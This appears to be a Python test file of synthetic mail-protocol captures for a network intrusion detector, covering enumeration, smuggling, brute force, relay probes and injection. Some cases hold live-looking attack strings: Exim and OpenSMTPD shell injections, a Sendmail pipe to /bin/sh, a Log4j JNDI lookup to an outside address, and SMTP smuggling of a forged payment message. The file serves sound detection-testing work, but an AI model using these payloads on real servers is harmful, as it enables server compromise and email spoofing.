"""Attacks: a capture where each fires, and some, as close to it as can be, where it does not (see cases.py)."""
import base64
import struct

from cases import D, data, failures, fires, greet, imap, imap_quit, login, pop3, pop3_quit, quit, silent
from pcapgen import ACK, MAIL, PSH, Dialogue, envelope

STRANGER = "203.0.113.66"


def stranger(c, n=0, at=0.0, **how):
    return greet(Dialogue(c, client=STRANGER, client_port=41000 + n, at=at), **how)


# ---- user-enumeration --------------------------------------------------------------------------------------------


def harvest(d, names, known=()):
    d.talk("C: MAIL FROM:<a@example.net>", "S: 250 2.1.0 Ok")
    for name in names:
        d.talk("C: RCPT TO:<%s@example.org>" % name, "S: 250 2.1.5 Ok" if name in known else "S: 550 5.1.1 <%s@example.org>: Recipient address "
               "rejected: User unknown in local recipient table" % name)
    return d.talk("C: RSET", "S: 250 2.0.0 Ok")


@fires("user-enumeration", "warning", says="12 different recipients")
def rcpt_harvest(c):
    quit(harvest(stranger(c), ["user%d" % i for i in range(14)], known=("user3", "user9")))


@silent("user-enumeration")
def few_unknown(c):
    quit(harvest(stranger(c), ["user%d" % i for i in range(9)]))


@silent("user-enumeration")
def a_list_with_old_addresses(c):
    """12 of 30 are gone: a mailing list."""
    quit(harvest(stranger(c), ["user%d" % i for i in range(30)], known=["user%d" % i for i in range(12, 30)]))


@silent("user-enumeration")
def the_same_user_again(c):
    for n in range(12):
        quit(harvest(stranger(c, n, at=10.0 * n), ["bob"]))


@silent("user-enumeration")
def refused_over_hours(c):
    for n in range(12):
        quit(harvest(stranger(c, n, at=700.0 * n), ["user%d" % n]))


@fires("user-enumeration", "warning", says="VRFY")
def vrfy_harvest(c):
    d = stranger(c)
    for name in ("root", "admin", "info", "sales", "ann"):
        d.talk("C: VRFY %s" % name, "S: 250 Ann <ann@example.org>" if name == "ann" else "S: 550 5.1.1 %s... User unknown" % name)
    quit(d)


@silent("user-enumeration")
def vrfy_of_four(c):
    d = stranger(c)
    for name in ("root", "admin", "info", "ann"):
        d.talk("C: VRFY %s" % name, "S: 252 2.0.0 %s" % name)
    quit(d)


@fires("user-enumeration", "warning", says="1 were told")
def list_expanded(c):
    quit(stranger(c).talk("C: EXPN staff", "S: 250-Ann <ann@example.org>", "S: 250 Bob <bob@example.org>"))


@silent("user-enumeration")
def list_not_expanded(c):
    quit(stranger(c).talk("C: EXPN staff", "S: 502 5.5.1 EXPN is not available"))


def try_users(c, words, users=6):
    for n in range(users):
        d = pop3(Dialogue(c, client=STRANGER, port=110, client_port=41000 + n, at=5.0 * n))
        pop3_quit(d.talk("C: USER u%d" % n, "S: +OK", "C: PASS x", "S: -ERR " + words(n)))


@fires("user-enumeration", "warning", says="5 different user names")
def telling_errors(c):
    try_users(c, lambda n: "Wrong password" if n == 2 else "No such user here")


@silent("user-enumeration")
def same_error_for_all(c):
    try_users(c, lambda n: "[AUTH] Authentication failed.")


@silent("user-enumeration")
def four_unknown_users(c):
    try_users(c, lambda n: "No such user here", users=4)


# ---- tcp-ambiguous -----------------------------------------------------------------------------------------------


def twice(d, who, first, second, ttl=None):
    """One place of the stream, two contents; only the second moves on."""
    d.wait(0.001)
    usual, d.ttl[who] = d.ttl[who], ttl or d.ttl[who]
    d.segment(who, PSH | ACK, first)
    d.ttl[who] = usual
    return d.say(who, second)


@fires("tcp-ambiguous", "error", says="fools filters")
def two_recipients(c):
    d = greet(D(c)).talk("C: MAIL FROM:<ann@example.com>", "S: 250 2.1.0 Ok")
    d = twice(d, "C", b"RCPT TO:<bob@example.org>\r\n", b"RCPT TO:<eve@example.org>\r\n").talk("S: 250 2.1.5 Ok")
    quit(data(d).talk("S: 250 2.0.0 Ok: queued as 1"))


@fires("tcp-ambiguous", "error", says="(9 and 64)")
def decoy_that_does_not_arrive(c):
    """A segment with few hops to live, for the eyes of filters alone, as tools for evasion send them; it is longer, too."""
    quit(twice(greet(D(c)), "C", b"NOOP nothing to see\r\n", b"VRFY root\r\n", ttl=9).talk("S: 252 2.0.0 root"))


@fires("tcp-ambiguous", "error", says="What the server said")
def answers_of_two(c):
    """Somebody on the way answers EHLO faster than the server."""
    d = D(c).open().talk("S: 220 mail.example.org ESMTP", "C: EHLO client.example.com")
    quit(twice(d, "S", b"502 5.5.1 Unknown command\r\n", b"250-mail.example.org\r\n250 STARTTLS\r\n", ttl=57))


@fires("tcp-ambiguous", "error", says="(2 times)")
def two_dialogues(c):
    d = pop3(D(c, port=110))
    twice(d, "C", b"USER ann\r\n", b"USER eve\r\n").say("S", "+OK")
    pop3_quit(twice(d, "C", b"PASS secret\r\n", b"PASS hidden\r\n").say("S", "+OK"))


@silent("tcp-ambiguous")
def sent_again(c):
    """The same, the same in other pieces, and a part of it."""
    d = greet(D(c)).talk("C: MAIL FROM:<ann@example.com>", "S: 250 2.1.0 Ok")
    d = twice(d, "C", b"RCPT TO:<bob@example.org>\r\n", b"RCPT TO:<bob@example.org>\r\n").talk("S: 250 2.1.5 Ok")
    d = twice(d, "C", b"RCPT TO:<eve@example.org>\r\n", b"RCPT TO:<eve@example.org>\r\nDATA\r\n").talk("S: 250 2.1.5 Ok", "S: 354 Go")
    d = twice(d, "C", MAIL + b".\r\n", MAIL[:100], ttl=60)
    quit(d.say("C", MAIL[100:] + b".\r\n").say("S", "250 2.0.0 Ok: queued as 1"))


@silent("tcp-ambiguous")
def probes_with_one_byte(c):
    """A keep-alive repeats the last byte, and may put anything in its place."""
    d = greet(D(c))
    for _ in range(3):
        d.wait(60)
        d.segment("C", ACK, b"\0", seq=d.seq["C"] - 1)
        d.segment("S", ACK)
    quit(d)


@silent("tcp-ambiguous")
def ports_used_again(c):
    quit(greet(D(c)))
    quit(greet(D(c, at=2.0), hello="EHLO another.example.net"))


# ---- unoffered-pipelining ----------------------------------------------------------------------------------------


AHEAD = b"MAIL FROM:<a@example.net>\r\nRCPT TO:<bob@example.org>\r\nRCPT TO:<eve@example.org>\r\nDATA\r\n"


def does_not_wait(d, first=b""):
    d.say("C", first + AHEAD)
    d.talk("S: 250 2.1.0 Ok", "S: 250 2.1.5 Ok", "S: 250 2.1.5 Ok", "S: 354 Go").say("C", MAIL + b".\r\n").say("S", "250 2.0.0 Ok: queued as 1")
    return d


@fires("unoffered-pipelining", "warning", says="in a hurry")
def in_one_go(c):
    """All of it before the server could say what it offers."""
    d = D(c, client=STRANGER).open().talk("S: 220 mail.example.org ESMTP").say("C", b"EHLO friend\r\n" + AHEAD)
    d.talk("S: 250-mail.example.org", "S: 250 PIPELINING", "S: 250 2.1.0 Ok", "S: 250 2.1.5 Ok", "S: 250 2.1.5 Ok", "S: 354 Go")
    quit(d.say("C", MAIL + b".\r\n").say("S", "250 2.0.0 Ok: queued as 1"))


@fires("unoffered-pipelining", "warning", says="2 times")
def not_in_the_list(c):
    quit(does_not_wait(stranger(c)))


@fires("unoffered-pipelining", "note")
def script_at_home(c):
    d = does_not_wait(D(c, client="198.51.100.7").open().talk("S: 220 mail.example.org ESMTP", "C: HELO backup", "S: 250 mail.example.org"))
    quit(d)


@silent("unoffered-pipelining")
def offered(c):
    d = D(c, client=STRANGER).open().talk("S: 220 mail.example.org ESMTP", "C: EHLO mx.example.net", "S: 250-mail.example.org", "S: 250 PIPELINING")
    quit(does_not_wait(d))


@silent("unoffered-pipelining")
def offered_by_lmtp(c):
    d = D(c, port=24).open().talk("S: 220 mail.example.org LMTP", "C: LHLO mx.example.net", "S: 250 mail.example.org")
    quit(does_not_wait(d))


@silent("unoffered-pipelining")
def speaks_first_and_may(c):
    d = D(c, client=STRANGER).open().talk("S: 220 mail.example.org ESMTP").say("C", b"EHLO mx.example.net\r\n" + AHEAD)
    d.talk("S: 250-mail.example.org", "S: 250 PIPECONNECT", "S: 250 2.1.0 Ok", "S: 250 2.1.5 Ok", "S: 250 2.1.5 Ok", "S: 354 Go")
    quit(d.say("C", MAIL + b".\r\n").say("S", "250 2.0.0 Ok: queued as 1"))


@silent("unoffered-pipelining")
def leaves_without_waiting(c):
    """The end of the text, RSET and QUIT in one segment: usual, and nothing depends on it."""
    d = envelope(stranger(c)).talk("C: DATA", "S: 354 Go").say("C", MAIL + b".\r\nRSET\r\nQUIT\r\n")
    d.talk("S: 250 2.0.0 Ok: queued as 1", "S: 250 2.0.0 Ok", "S: 221 2.0.0 Bye").close()


@silent("unoffered-pipelining")
def offered_where_the_capture_has_a_hole(c):
    d = D(c, client=STRANGER).open().talk("S: 220 mail.example.org ESMTP", "C: EHLO mx.example.net")
    quit(does_not_wait(d.say("S", b"250-mail.example.org\r\n250 PIPELINING\r\n", seen=False)))


@silent("unoffered-pipelining")
def swapped_in_the_capture(c):
    """The reply to MAIL stands behind RCPT: neighbours changed places."""
    d = stranger(c).say("C", "MAIL FROM:<a@example.net>").say("C", "RCPT TO:<bob@example.org>").talk("S: 250 2.1.0 Ok", "S: 250 2.1.5 Ok")
    quit(d)


# ---- protocol-mismatch -------------------------------------------------------------------------------------------


@fires("protocol-mismatch", "warning", says="HTTP")
def browser_on_25(c):
    d = D(c).open().talk("S: 220 mail.example.org ESMTP", "C: GET / HTTP/1.1", "S: 502 5.5.2 Error: command not recognized", "C: Host: mail.example.org",
                         "S: 221 2.7.0 Error: I can break rules, too. Goodbye.")
    d.close(first="S")


@fires("protocol-mismatch", "error", says="cross-protocol")
def mail_in_a_form(c):
    d = D(c).open().say("S", "220 mail.example.org ESMTP")
    d.say("C", b"POST / HTTP/1.1\r\nHost: mail.example.org:25\r\n\r\nHELO x\r\nMAIL FROM:<a@example.net>\r\nRCPT TO:<b@example.org>\r\nQUIT\r\n")
    d.talk("S: 500 5.5.2 What?", "S: 500 5.5.2 What?", "S: 500 5.5.2 What?", "S: 250 mail.example.org", "S: 250 2.1.0 Ok", "S: 250 2.1.5 Ok", "S: 221 2.0.0 Bye")
    d.close()


@fires("protocol-mismatch", "warning", says="SSH")
def ssh_on_143(c):
    d = D(c, port=143).open().talk("C: SSH-2.0-OpenSSH_9.2", "S: SSH-2.0-OpenSSH_9.2")
    d.close()


@fires("protocol-mismatch", "warning", says="SOCKS")
def socks_on_110(c):
    D(c, port=110).open().say("S", "+OK POP3 ready").say("C", b"\x05\x01\x00").close()


@fires("protocol-mismatch", "warning", says="RDP")
def rdp_on_587(c):
    d = D(c, port=587).open().say("S", "220 mail.example.org ESMTP")
    d.say("C", b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00").close()


@fires("protocol-mismatch", "warning", says="SIP")
def sip_on_25(c):
    d = D(c).open().talk("S: 220 mail.example.org ESMTP", "C: OPTIONS sip:nm SIP/2.0", "S: 500 5.5.2 Error: bad syntax")
    d.close()


@fires("protocol-mismatch", "note", says="STARTTLS")
def tls_hello_to_plain(c):
    d = D(c, port=587).open().say("S", "220 mail.example.org ESMTP")
    d.say("C", bytes.fromhex("160301002f0100002b0303" + "11" * 32 + "000002c02f01000000")).talk("S: 500 5.5.2 Error: bad syntax").close()


@silent("protocol-mismatch")
def words_in_the_middle(c):
    """What looks like HTTP is an argument, and a later line."""
    quit(D(c).open().talk("S: 220 mail.example.org ESMTP", "C: EHLO GET", "S: 250 mail.example.org", "C: GET / HTTP/1.1", "S: 502 5.5.2 Error"))


@silent("protocol-mismatch")
def connection_says_nothing(c):
    D(c).open().say("S", "220 mail.example.org ESMTP").close()


# ---- smtp-smuggling ----------------------------------------------------------------------------------------------

INSIDE = b"MAIL FROM:<admin@example.org>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\nFrom: admin@example.org\r\n\r\nPay now.\r\n"


def text(c, content, *answers):
    d = envelope(greet(D(c))).talk("C: DATA", "S: 354 End data with <CR><LF>.<CR><LF>").say("C", MAIL + content + b".\r\n")
    quit(d.talk(*["S: " + a for a in answers or ["250 2.0.0 Ok: queued as 1"]]))


@fires("smtp-smuggling", "error", says="behind LF.CRLF")
def smuggled(c):
    text(c, b"Hello\n.\r\n" + INSIDE)


@fires("smtp-smuggling", "error", says="behind CR.CR)")
def smuggled_behind_cr(c):
    text(c, b"Hello\r.\r" + INSIDE)


@fires("smtp-smuggling", "critical", says="fell for it")
def smuggled_and_taken(c):
    text(c, b"Hello\n.\n" + INSIDE, "250 2.0.0 Ok: queued as 1", "250 2.1.0 Ok", "250 2.1.5 Ok", "354 Go", "250 2.0.0 Ok: queued as 2")


@fires("smtp-smuggling", "critical", says="CRLF NUL .CRLF")
def smuggled_behind_nul(c):
    text(c, b"Hello\r\n\0.\r\n" + INSIDE, "250 2.0.0 Ok: queued as 1", "250 2.1.0 Ok", "250 2.1.5 Ok", "354 Go", "250 2.0.0 Ok: queued as 2")


@silent("smtp-smuggling")
def lone_dot_without_commands(c):
    text(c, b"Hello\n.\r\nand more of it\r\n")


@silent("smtp-smuggling")
def a_letter_about_smtp(c):
    """Dots are stuffed as they should be, commands stand in the text."""
    text(c, b"Hello\r\n..\r\n" + INSIDE + b"..\r\n")


@silent("smtp-smuggling")
def two_messages_at_once(c):
    """A client that sends the next MAIL with the end of the text (RFC 2920 3.1)."""
    d = envelope(greet(D(c))).talk("C: DATA", "S: 354 Go").say("C", MAIL + b".\r\n" + INSIDE.split(b"From")[0])
    d.talk("S: 250 2.0.0 Ok", "S: 250 2.1.0 Ok", "S: 250 2.1.5 Ok", "S: 354 Go").say("C", MAIL + b".\r\n").say("S", "250 2.0.0 Ok")
    quit(d)


@silent("smtp-smuggling")
def ends_with_bare_lf(c):
    """A simple client: lines end with LF, the server takes that for the end, and the client waits for it."""
    d = envelope(greet(D(c))).talk("C: DATA", "S: 354 Go").say("C", b"Subject: x\n\nHello\n.\n").say("S", "250 2.0.0 Ok")
    d.talk("C: MAIL FROM:<ann@example.com>", "S: 250 2.1.0 Ok", "C: RCPT TO:<bob@example.org>", "S: 250 2.1.5 Ok", "C: DATA", "S: 354 Go")
    quit(d.say("C", b"Subject: y\n\nHello\n.\n").say("S", "250 2.0.0 Ok"))


def chunks(c, contents, *answers):
    """A message by BDAT; what is in it is sent with the command."""
    d = envelope(greet(D(c)))
    for i, content in enumerate(contents):
        last = i + 1 == len(contents)
        d.say("C", b"BDAT %d%s\r\n" % (len(content), b" LAST" if last else b"") + content).say("S", "250 2.0.0 Ok")
    for answer in answers:
        d.say("S", answer)
    quit(d)


@fires("smtp-smuggling", "error", says="behind CRLF.CRLF")
def smuggled_in_a_chunk(c):
    chunks(c, [MAIL + b"Hello\r\n.\r\n" + INSIDE])


@fires("smtp-smuggling", "error", says="behind LF.CRLF")
def smuggled_across_chunks(c):
    chunks(c, [MAIL + b"Hello\n", b".\r\nMAIL FROM:<admin@exa", b"mple.org>\r\nRCPT TO:<bob@example.org>\r\n"])


@fires("smtp-smuggling", "critical", says="(BDAT) begins with")
def smuggled_as_a_chunk(c):
    chunks(c, [INSIDE], "250 2.1.0 Ok", "250 2.1.5 Ok", "354 Go")


@silent("smtp-smuggling")
def a_dialogue_in_a_chunk(c):
    """Dots are not doubled in chunks: a letter that shows a whole dialogue."""
    chunks(c, [MAIL + b"Hello\r\n.\r\n250 2.0.0 Ok: queued\r\n" + INSIDE + b".\r\n250 2.0.0 Ok: queued\r\nQUIT\r\n"])


@silent("smtp-smuggling")
def a_lone_dot_in_a_chunk(c):
    chunks(c, [MAIL + b"Hello\r\n.\r\nMail is nice\r\n", b"\r\n.\r\n"])


# ---- brute-force: guessed, from many ---------------------------------------------------------------------------------


def enters(c, client, at):
    d = greet(D(c, client=client, client_port=45000, port=587, at=at))
    quit(login(d, "info", "235 2.7.0 Authentication successful", "right"))


@fires("brute-force", "critical", says="the password was guessed")
def guessed(c):
    failures(c, ["info"], 12)
    enters(c, "203.0.113.66", 100)


@fires("brute-force", "critical", says="24 failed logins in 115 s, from 6 clients")
def from_many(c):
    for n in range(24):
        d = greet(D(c, client="203.0.113.%d" % (60 + n % 6), client_port=40000 + n, port=587, at=n * 5.0))
        quit(login(d, "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))


@silent("brute-force")
def nine_from_three(c):
    for n in range(9):
        d = greet(D(c, client="203.0.113.%d" % (60 + n % 3), client_port=40000 + n, port=587, at=n * 5.0))
        quit(login(d, "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))


@fires("brute-force", "warning", says="the same password each time")
def phone_with_an_old_password(c):
    for n in range(12):
        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 60.0)), "info", "535 5.7.8 Error: authentication failed", "old"))


@fires("brute-force", "warning", says="then another one that was right")
def owner_corrects_it(c):
    phone_with_an_old_password(c)
    enters(c, "192.0.2.10", 1000)


@fires("brute-force", "critical", says="12 different passwords in 13200 s")
def slow_on_purpose(c):
    for n in range(12):
        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 1200.0)), "info", "535 5.7.8 Error: authentication failed", "guess%d" % n))


@silent("brute-force")
def mistypes_now_and_then(c):
    """Twelve different ones in all, and in between the right one."""
    for n in range(12):
        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 1200.0)), "info", "535 5.7.8 Error: authentication failed", "slip%d" % n))
        if n % 3 == 2:
            enters(c, "192.0.2.10", n * 1200.0 + 60)


@silent("brute-force")
def two_old_passwords_all_day(c):
    for n in range(40):
        quit(login(greet(D(c, client_port=40000 + n, port=587, at=n * 1200.0)), "info", "535 5.7.8 Error: authentication failed", "old%d" % (n % 2)))


@fires("brute-force", "critical")
def refused_with_bad(c):
    """A server that says BAD of a wrong password."""
    d = imap(D(c, port=143, client=STRANGER))
    for n in range(12):
        d.talk("C: a%d LOGIN bob pw%d" % (n, n), "S: a%d BAD Invalid user or password" % n)
    imap_quit(d)


# ---- open-relay, open-relay-probe ------------------------------------------------------------------------------------


def hands_in(d, sender, *recipients, answer="250 2.0.0 Ok: queued as 1"):
    d = data(envelope(d, sender, *recipients))
    quit(d.say("S", answer))


def inbound(c, clients=3):
    for n in range(clients):
        hands_in(greet(Dialogue(c, client="192.0.2.%d" % (77 + n), client_port=42000, at=3.0 * n), hello="EHLO mx.example.com"), "ann@example.com", "bob@example.org")


@fires("open-relay", "critical", says="its own domain only")
def relays_for_one(c):
    inbound(c)
    hands_in(stranger(c, at=20), "spam@example.net", "victim@example.edu")


@silent("open-relay")
def too_few_to_say_what_is_usual(c):
    inbound(c, clients=2)
    hands_in(stranger(c, at=20), "ann@example.net", "bob@example.edu")


@silent("open-relay", "open-relay-probe")
def takes_in_for_many_domains(c):
    """A server that hosts other domains, too."""
    inbound(c)
    hands_in(stranger(c, at=20), "ann@example.net", "bob@example.edu")
    hands_in(greet(Dialogue(c, client="203.1.5.5", client_port=43000, at=40)), "eve@example.net", "joe@example.info")


@silent("open-relay")
def relays_for_own_network(c):
    inbound(c)
    hands_in(greet(Dialogue(c, client="198.51.100.7", client_port=43000, at=40)), "printer@example.net", "victim@example.edu")
    hands_in(greet(Dialogue(c, client="10.1.2.3", client_port=43001, at=60)), "printer@example.net", "victim@example.edu")


@silent("open-relay")
def relays_after_login(c):
    inbound(c)
    d = stranger(c, at=20).talk("C: AUTH PLAIN AGFubgBzM2NyZXQ=", "S: 235 2.7.0 Ok")
    hands_in(d, "ann@example.net", "victim@example.edu")


@silent("open-relay")
def own_sender_from_outside(c):
    """Mail from the server's domain to another: a web shop that was let in by its address."""
    inbound(c)
    hands_in(stranger(c, at=20), "shop@example.org", "customer@gmail.com")


@silent("open-relay")
def delivers_to_a_hosted_domain(c):
    """One mail server sends to another whose name has nothing to do with the recipient's."""
    hands_in(stranger(c), "ann@example.net", "bob@example.edu")


@silent("open-relay")
def message_refused(c):
    inbound(c)
    hands_in(stranger(c, at=20), "spam@example.net", "victim@example.edu", answer="554 5.7.1 Rejected")


@fires("open-relay", "warning", says="public mail provider")
def relays_to_freemail(c):
    hands_in(stranger(c), "spam@example.net", "victim@gmail.com")


FORMS = ["test%example.net@mail.example.org", "example.net!test", '"test@example.net"', "test@example.net@mail.example.org", "test@[198.51.100.25]"]


def probe(c, forms, code="554 5.7.1 Relay access denied"):
    d = stranger(c).talk("C: MAIL FROM:<probe@example.net>", "S: 250 2.1.0 Ok")
    for form in forms:
        d.talk("C: RCPT TO:<%s>" % form, "S: " + code)
    return d


@fires("open-relay-probe", "warning", says="accepted none")
def probed(c):
    quit(probe(c, FORMS))


@fires("open-relay-probe", "error", says="accepted some")
def probed_with_success(c):
    quit(probe(c, FORMS[:2]).talk("C: RCPT TO:<@mail.example.org:test@example.net>", "S: 250 2.1.5 Ok"))


@fires("open-relay", "critical", says="by which relays are looked for")
def probed_and_open(c):
    quit(probe(c, FORMS[:3]))
    hands_in(stranger(c, 1, at=30), "probe@example.net", "test@example.edu")


@silent("open-relay-probe", "open-relay")
def two_forms(c):
    quit(probe(c, FORMS[:2]))


@silent("open-relay-probe")
def relay_denied_to_many(c):
    """A user on the road who forgot to log in."""
    quit(probe(c, ["u%d@example.edu" % n for n in range(8)]))


@silent("open-relay-probe")
def forms_from_inside(c):
    d = greet(Dialogue(c, client="198.51.100.9")).talk("C: MAIL FROM:<probe@example.net>", "S: 250 2.1.0 Ok")
    for form in FORMS:
        d.talk("C: RCPT TO:<%s>" % form, "S: 554 5.7.1 Relay access denied")
    quit(d)


# ---- ntlm-disclosure -------------------------------------------------------------------------------------------------


def challenge(names=True):
    pairs = b""
    for kind, name in ((1, "MAIL01"), (2, "CORP"), (3, "mail01.corp.example.org"), (4, "corp.example.org")) if names else ():
        text = name.encode("utf-16le")
        pairs += struct.pack("<HH", kind, len(text)) + text
    pairs += struct.pack("<HH", 0, 0)
    target = "CORP".encode("utf-16le") if names else b""
    head = b"NTLMSSP\0" + struct.pack("<IHHII", 2, len(target), len(target), 56, 0x02800001 | 0x02000000 * names) + b"12345678" + bytes(8)
    head += struct.pack("<HHI", len(pairs), len(pairs), 56 + len(target)) + (struct.pack("<BBH", 10, 0, 17763) + b"\0\0\0\x0f" if names else bytes(8))
    return base64.b64encode(head + target + pairs).decode()


def answer():
    user = "ann".encode("utf-16le")
    fields = b"".join(struct.pack("<HHI", n, n, at) for n, at in ((24, 88), (24, 112), (0, 64), (len(user), 64), (0, 64), (0, 64)))
    m = b"NTLMSSP\0" + struct.pack("<I", 3) + fields + struct.pack("<I", 0x00000001) + user
    return base64.b64encode(m.ljust(88, b"\0") + b"r" * 48).decode()


NEGOTIATE = base64.b64encode(b"NTLMSSP\0" + struct.pack("<II", 1, 0x00000207) + bytes(16)).decode()


@fires("ntlm-disclosure", "warning", says="mail01.corp.example.org")
def asked_for_names(c):
    quit(stranger(c).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(), "C: *", "S: 501 5.7.0 Authentication aborted"))


@fires("ntlm-disclosure", "warning", says="Windows 10.0 build 17763")
def names_by_imap(c):
    d = imap(D(c, port=143, client=STRANGER)).talk("C: a AUTHENTICATE NTLM", "S: +", "C: " + NEGOTIATE, "S: + " + challenge())
    d.close()


@fires("ntlm-disclosure", "warning", says="CORP")
def names_by_pop(c):
    d = pop3(D(c, port=110, client=STRANGER)).talk("C: AUTH NTLM", "S: + ", "C: " + NEGOTIATE, "S: + " + challenge(), "C: *", "S: -ERR aborted")
    d.close()


@fires("ntlm-disclosure", "note", says="and failed")
def ntlm_login_failed(c):
    quit(greet(D(c, port=587)).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(), "C: " + answer(), "S: 535 5.7.3 Authentication unsuccessful"))


@silent("ntlm-disclosure")
def ntlm_login(c):
    quit(greet(D(c, port=587)).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(), "C: " + answer(), "S: 235 2.7.0 Ok"))


@silent("ntlm-disclosure")
def ntlm_without_names(c):
    quit(stranger(c).talk("C: AUTH NTLM " + NEGOTIATE, "S: 334 " + challenge(names=False), "C: *", "S: 501 5.7.0 Authentication aborted"))


# ---- command-injection -----------------------------------------------------------------------------------------------


def one(c, command, answer):
    quit(stranger(c).talk("C: " + command, "S: " + answer))


@fires("command-injection", "critical", says="runs or reads")
def exim_run(c):
    quit(stranger(c).talk("C: MAIL FROM:<>", "S: 250 Ok", "C: RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>", "S: 250 Accepted"))


@fires("command-injection", "error", says="for the shell")
def opensmtpd_shell(c):
    one(c, "MAIL FROM:<;for i in 0 1 2 3;do read r;done;sh;exit 0;>", "553 5.1.8 Sender address syntax error")


@fires("command-injection", "error", says="pipe")
def sendmail_pipe(c):
    one(c, 'RCPT TO:<"|/bin/sed 1,/^$/d|/bin/sh">', "550 5.1.1 No")


@fires("command-injection", "error", says="another command behind it")
def line_end_inside(c):
    d = stranger(c).say("C", b"MAIL FROM:<ann@example.com>\rRCPT TO:<bob@example.org>\r\n").say("S", "501 5.1.7 Bad sender address syntax")
    quit(d)


@fires("command-injection", "critical", says="jndi")
def log4j_user(c):
    pop3_quit(pop3(D(c, port=110)).talk("C: USER ${jndi:ldap://203.0.113.66/a}", "S: +OK", "C: PASS x", "S: -ERR no"))


@fires("command-injection", "error", says="another command behind it")
def login_in_a_literal(c):
    d = imap(D(c, port=143)).say("C", b"a LOGIN {26+}\r\nbob\r\nb LOGIN ann hidden\r\n\r\n pw\r\n").say("S", "a NO [AUTHENTICATIONFAILED] No")
    imap_quit(d)


@fires("command-injection", "error", says="percent")
def line_end_in_percent(c):
    one(c, "RCPT TO:<bob@example.org%0d%0aDATA%0d%0a>", "501 5.1.3 Bad recipient address syntax")


@silent("command-injection")
def odd_addresses(c):
    """Signs that addresses may have (RFC 5321 4.1.2, RFC 5322 3.2.3), and a password that looks like a command."""
    d = envelope(greet(D(c, port=587)).talk("C: AUTH PLAIN " + base64.b64encode(b"\0ann\0$(id);sh;|/bin/sh").decode(), "S: 235 2.7.0 Ok"),
                 "bounce$1+bob=example.org@example.com", "a`b@example.org", "x|y@example.org", "50%off@example.org", "dollar${x}@example.org")
    quit(d)


@silent("command-injection")
def password_with_signs(c):
    pop3_quit(pop3(D(c, port=110)).talk("C: USER ann", "S: +OK", "C: PASS $(id)`reboot`;sh;${run{x}}", "S: +OK"))


@silent("command-injection")
def sloppy_line_ends(c):
    d = stranger(c).say("C", b"MAIL FROM:<ann@example.com>\r\r\n").say("S", "250 2.1.0 Ok").say("C", b"RSET\0\r\n").say("S", "250 2.0.0 Ok")
    quit(d)


# ---- legacy-command, overlong-command ----------------------------------------------------------------------------------


@fires("legacy-command", "warning", says="Sendmail")
def debug(c):
    one(c, "DEBUG", "502 5.5.2 Error: command not recognized")


@fires("legacy-command", "critical", says="did it")
def wizard(c):
    one(c, "WIZ", "200 Please pass, oh mighty wizard")


@silent("legacy-command")
def etrn_and_help(c):
    quit(stranger(c).talk("C: ETRN example.org", "S: 502 5.5.2 No", "C: HELP", "S: 214 2.0.0 See RFC 5321"))


@silent("legacy-command")
def debug_as_argument(c):
    quit(stranger(c, hello="EHLO DEBUG").talk("C: NOOP WIZ", "S: 250 2.0.0 Ok"))


@fires("overlong-command", "warning", says="4005 bytes")
def long_helo(c):
    quit(D(c, client=STRANGER).open().talk("S: 220 mail.example.org ESMTP", "C: HELO " + "A" * 4000, "S: 500 5.5.2 Line too long"))


@fires("overlong-command", "warning", says="X-LINK2STATE")
def link2state(c):
    one(c, "X-LINK2STATE CHUNK=" + "A" * 530, "500 5.5.2 Error: command not recognized")


@silent("overlong-command")
def long_but_right(c):
    """The longest MAIL that RFC 5321 4.5.3.1 and its extensions allow, and a login by token."""
    d = greet(D(c, port=587)).talk("C: AUTH XOAUTH2 " + base64.b64encode(b"user=ann\1auth=Bearer " + b"t" * 2000 + b"\1\1").decode(), "S: 235 2.7.0 Ok")
    quit(d.talk("C: MAIL FROM:<%s@example.com> SIZE=1000 BODY=8BITMIME RET=HDRS ENVID=%s" % ("a" * 64, "e" * 100), "S: 250 2.1.0 Ok", "C: RSET", "S: 250 Ok"))


@silent("overlong-command")
def long_list_of_numbers(c):
    d = imap(D(c, port=143)).talk("C: a LOGIN ann secret", "S: a OK", "C: b UID FETCH %s (FLAGS)" % ",".join(str(n) for n in range(1, 900, 2)), "S: b OK done")
    imap_quit(d)


# ---- scanner, suspicious-helo ------------------------------------------------------------------------------------------


@fires("scanner", "note", says="nmap.scanme.org")
def nmap(c):
    quit(stranger(c, hello="EHLO nmap.scanme.org"))


@silent("scanner", "suspicious-helo")
def honest_name(c):
    quit(stranger(c, hello="EHLO mx1.example.net"))


@silent("scanner")
def office_scanner(c):
    quit(greet(D(c, port=587), hello="EHLO SCANNER-2"))


@fires("suspicious-helo", "note", says="the server itself")
def takes_the_servers_name(c):
    quit(stranger(c, hello="EHLO mail.example.org"))


@fires("suspicious-helo", "note", says="without brackets")
def bare_address(c):
    quit(stranger(c, hello="HELO 203.0.113.66"))


def by_names(c, names, gap=60.0, port=25):
    for n, name in enumerate(names):
        quit(greet(Dialogue(c, client=STRANGER, client_port=41000 + n, at=gap * n, port=port), hello="EHLO " + name))


@fires("suspicious-helo", "note", says="of another domain each time")
def another_name_each_time(c):
    by_names(c, ["mail.%s.example" % w for w in ("one", "two", "three", "four", "five")])


@silent("suspicious-helo")
def a_farm_of_servers(c):
    by_names(c, ["mx%d.example.net" % n for n in range(12)])


@silent("suspicious-helo")
def four_domains(c):
    by_names(c, ["mail.%s.example" % w for w in ("one", "two", "three", "four", "one", "two")])


@silent("suspicious-helo")
def seven_servers_behind_one_address(c):
    by_names(c, ["mail.%s.example" % "abcdefg"[n * 3 % 7] for n in range(40)])


@silent("suspicious-helo")
def five_domains_over_the_day(c):
    by_names(c, ["mail.%s.example" % w for w in ("one", "two", "three", "four", "five")], gap=3000.0)


@silent("suspicious-helo")
def people_behind_one_address(c):
    by_names(c, ["laptop.%s.example" % w for w in ("one", "two", "three", "four", "five", "six")], port=587)


@silent("suspicious-helo")
def address_in_brackets(c):
